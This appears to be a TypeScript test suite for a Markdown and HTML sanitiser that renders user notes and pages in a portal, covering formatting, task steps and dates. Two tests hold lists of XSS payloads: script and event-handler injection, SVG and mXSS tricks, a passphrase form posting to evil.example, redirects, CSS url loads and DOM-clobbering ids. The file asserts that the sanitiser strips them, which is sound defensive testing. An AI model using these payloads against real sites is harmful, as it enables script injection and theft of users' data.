import assert from "node:assert/strict";
import { test } from "node:test";
// First of all, as DOMPurify takes the window that is there when it loads.
import { page } from "./page.ts";
import { renderMarkdown, renderPage } from "../src/markdown.ts";

function html(fragment: DocumentFragment): string {
  const holder = page.window.document.createElement("div");
  holder.append(fragment);
  return holder.innerHTML;
}

test("A note keeps its paragraphs, line breaks, emphasis, lists and quotes.", () => {
  const note = "Waited *three* seconds.\nIt felt **long**.\n\n- one\n- two\n\n> hm";
  assert.equal(
    html(renderMarkdown(note)).replaceAll("\n", ""),
    "<p>Waited <em>three</em> seconds.<br>It felt <strong>long</strong>.</p><ul><li>one</li><li>two</li></ul><blockquote><p>hm</p></blockquote>",
  );
});

test("HTML in a note is shown as it was typed.", () => {
  const shown = html(renderMarkdown("<script>alert(1)</script> <b onclick=x>b</b>"));
  assert.equal(
    shown,
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; &lt;b onclick=x&gt;b&lt;/b&gt;</p>\n",
  );
});

test("A note loads no picture and leads to no script.", () => {
  assert.doesNotMatch(html(renderMarkdown("![x](https://evil.example/a.png)")), /<img|src=/u);
  for (const note of ["[x](javascript:alert(1))", "[x](data:text/html,x)", "[x](vbscript:x)"]) {
    assert.doesNotMatch(html(renderMarkdown(note)), /<img|href|src=/u);
  }
});

test("A link out of a note opens beside the portal and learns nothing of it.", () => {
  const link = html(renderMarkdown("[x](https://example.org/)"));
  assert.match(link, /rel="noopener noreferrer nofollow"/u);
  assert.match(link, /target="_blank"/u);
});

test("A table whose columns are lined up has no style, which the page's policy would refuse.", () => {
  const table = html(renderMarkdown("| a | b |\n|:--|--:|\n| 1 | 2 |"));
  assert.equal(
    table.replaceAll("\n", ""),
    "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>",
  );
});

test("A hash or an underline makes no heading in a note.", () => {
  assert.doesNotMatch(html(renderMarkdown("# Big\n\nAlso big\n===\n\n### small")), /<h\d/u);
});

test("Action steps show whether they are done, in words too.", () => {
  const steps = html(renderMarkdown("- [ ] Wait\n- [x] Film *one* starter\n- [y] no step"));
  assert.match(
    steps,
    /<li class="task task-open"><span class="visually-hidden">To do: <\/span>Wait<\/li>/u,
  );
  assert.match(
    steps,
    /<li class="task task-done"><span class="visually-hidden">Done: <\/span>Film <em>one<\/em> starter<\/li>/u,
  );
  assert.match(steps, /<li>\[y\] no step<\/li>/u);
});

test("The day of an action step is shown as people write it.", () => {
  const steps = html(renderMarkdown("- [x] Wait (by 2026-11-19)\n- [ ] Film (by 2026-13-40) it"));
  assert.match(steps, /Wait \(by Thu 19 Nov\)/u);
  assert.match(steps, /Film \(by 2026-13-40\) it/u);
});

test("A day that a form asks for is shown as people write it, in a line of its own.", () => {
  const shown = html(
    renderMarkdown("Review date: 2027-03-12\n**Seen on:** 2026-11-12\nOn 2026-11-12 we met"),
  );
  assert.match(shown, /Review date: Fri 12 Mar 2027/u);
  assert.match(shown, /<strong>Seen on:<\/strong> Thu 12 Nov 2026/u);
  assert.match(shown, /On 2026-11-12 we met/u);
});

test("A page keeps its structure, its places for sealed sections and its charts.", () => {
  const source =
    '<section class="card"><h2 id="t">Figures</h2><div data-sealed="b1" data-lazy=""></div>' +
    '<svg class="bar" viewBox="0 0 100 6" role="img" aria-labelledby="t"><title>78 %</title><rect width="78" height="6"></rect></svg></section>';
  assert.equal(html(renderPage(source)), source);
});

test("Nothing in a page can run, load, ask or go elsewhere by itself.", () => {
  const hostile = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script><use href='//evil.example/x.svg#a'/><image href='x'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg onload=alert(1)><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action='https://evil.example'><input name=passphrase><button>Unlock</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>* { background: url(https://evil.example) }</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<a href='javascript:alert(1)'>x</a><a href='//evil.example'>x</a><a href='http://evil.example'>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<video src=x poster=y></video><audio src=x></audio><picture><source srcset=x></picture>",
    "<template><img src=x onerror=alert(1)></template>",
    "<p onclick=alert(1) onfocus=alert(1) autofocus>x</p>",
  ];
  for (const source of hostile) {
    const shown = html(renderPage(source));
    assert.doesNotMatch(
      shown,
      /\son\w+=|<(?:script|img|iframe|object|embed|form|input|button|base|meta|link|style|use|image|video|audio|source|template|foreignobject)\b|style=|src=|evil\.example|javascript:/iu,
      source,
    );
  }
});

test("A page can't take the names that scripts look things up by.", () => {
  const shown = html(renderPage('<a id="cookie">x</a><div id="getElementById" name="body"></div>'));
  assert.doesNotMatch(shown, /id="(?:cookie|getElementById)"|name=/u);
});
